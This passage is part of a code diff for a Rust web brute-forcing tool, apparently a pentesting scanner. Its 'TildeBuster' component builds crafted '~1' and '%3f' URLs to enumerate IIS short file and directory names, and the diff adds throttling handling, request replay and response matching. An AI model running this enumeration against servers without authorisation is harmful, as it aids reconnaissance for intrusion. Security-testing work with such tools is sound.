                         tx.send(res).unwrap();
                     }
-                    (hyper::StatusCode::NOT_FOUND, _) => {
+                    (true, _) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::DuplicateDirectory,
                             error: None,
@@ -725,7 +853,7 @@ impl TildeBuster {
                         };
                         tx.send(res).unwrap();
                     }
-                    (hyper::StatusCode::BAD_REQUEST, _) | _ => {
+                    (false, _) => {
                         let res = SingleTildeScanResult {
                             kind: FSObject::NotExisting,
                             error: None,
@@ -742,9 +870,138 @@ impl TildeBuster {
 
                 Ok(())
             })
-            .or_else(|e| {
+            .or_else(move |e| {
                 warn!("Got HTTP error when bruteforcing duplicates: {}", e);
+                TildeBuster::send_error(&tx_err, request_err, Probe::Duplicate, e);
                 Ok(())
             })
     }
+
+    fn extension_url(request: &TildeRequest) -> String {
+        let magic_suffix = match &request.redirect_extension {
+            Some(v) => format!("/.{}", v),
+            None => "".to_owned(),
+        };
+
+        format!(
+            "{}{}~1.{}{}{}",
+            request.url,
+            request.filename,
+            request.extension,
+            "%3f".repeat(3 - request.extension.len()),
+            magic_suffix,
+        )
+    }
+
+    fn directory_url(request: &TildeRequest) -> String {
+        let magic_suffix = match &request.redirect_extension {
+            Some(v) => format!("*~1/.{}", v),
+            None => "*~1".to_owned(),
+        };
+
+        format!("{}{}{}", request.url, request.filename, magic_suffix)
+    }
+
+    fn duplicate_url(request: &TildeRequest) -> String {
+        match (&request.extension.len(), &request.redirect_extension) {
+            (0, Some(v)) => format!(
+                "{}{}~{}/.{}",
+                request.url, request.filename, request.duplicate_index, v,
+            ),
+            (0, None) => format!(
+                "{}{}~{}",
+                request.url, request.filename, request.duplicate_index,
+            ),
+            (_, Some(v)) => format!(
+                "{}{}~{}.{}/.{}",
+                request.url, request.filename, request.duplicate_index, request.extension, v,
+            ),
+            (_, None) => format!(
+                "{}{}~{}.{}",
+                request.url, request.filename, request.duplicate_index, request.extension,
+            ),
+        }
+    }
+
+    fn replay(replayer: &Replayer, request: &TildeRequest, url: &str) {
+        if let Ok(uri) = url.parse::<hyper::Uri>() {
+            replayer.replay(TildeBuster::build_hyper_request(request, &uri));
+        }
+    }
+
+    fn probe(
+        client: Client<HttpsConnector<ProxyConnector>>,
+        policy: RetryPolicy,
+        matcher: Matcher,
+        request: &TildeRequest,
+        url: &str,
+    ) -> impl Future<Item = bool, Error = RequestError> {
+        let request = request.clone();
+        let uri = url.parse::<hyper::Uri>().unwrap();
+
+        send_request(client, policy, move || {
+            TildeBuster::build_hyper_request(&request, &uri)
+        })
+        .and_then(move |(parts, body, elapsed)| {
+            let status = parts.status.to_string();
+            if TildeBuster::response_matches(&matcher, elapsed, &parts, &body) {
+                Ok(true)
+            } else if is_throttled(&status) {
+                let headers = format_headers(&parts.headers);
+                Err(RequestError::Throttled(parse_retry_after(&headers)))
+            } else {
+                Ok(false)
+            }
+        })
+    }
+
+    fn build_hyper_request(request: &TildeRequest, uri: &hyper::Uri) -> Request<Body> {
+        Request::builder()
+            .header("User-Agent", &request.user_agent[..])
+            .method(&request.http_method[..])
+            .uri(uri)
+            .body(Body::from(request.http_body.clone()))
+            .expect("Request builder")
+    }
+
+    fn send_error(
+        tx: &Sender<SingleTildeScanResult>,
+        request: TildeRequest,
+        probe: Probe,
+        e: RequestError,
+    ) {
+        let kind = match e {
+            RequestError::Throttled(retry_after) => {
+                FSObject::Throttled(retry_after.map(|v| v.as_secs()), probe)
+            }
+            _ => FSObject::NotExisting,
+        };
+        let res = SingleTildeScanResult {
+            kind,
+            error: Some(e.to_string()),
+            request,
+        };
+        let _ = tx.send(res);
+    }
+
+    fn response_matches(
+        matcher: &Matcher,
+        elapsed: Duration,
+        parts: &Parts,
+        body: &Chunk,
+    ) -> bool {
+        let status = parts.status.to_string();
+        let headers = format_headers(&parts.headers);
+        let body = String::from_utf8_lossy(body);
+
+        matcher.is_match(&MatchTarget {
+            status: &status,
+            content_length: body.len(),
+            words: body.split_whitespace().count(),
+            lines: body.lines().count(),
+            response_time: elapsed.as_millis() as u64,
+            headers: &headers,
+            body: &body,
+        })
+    }
 }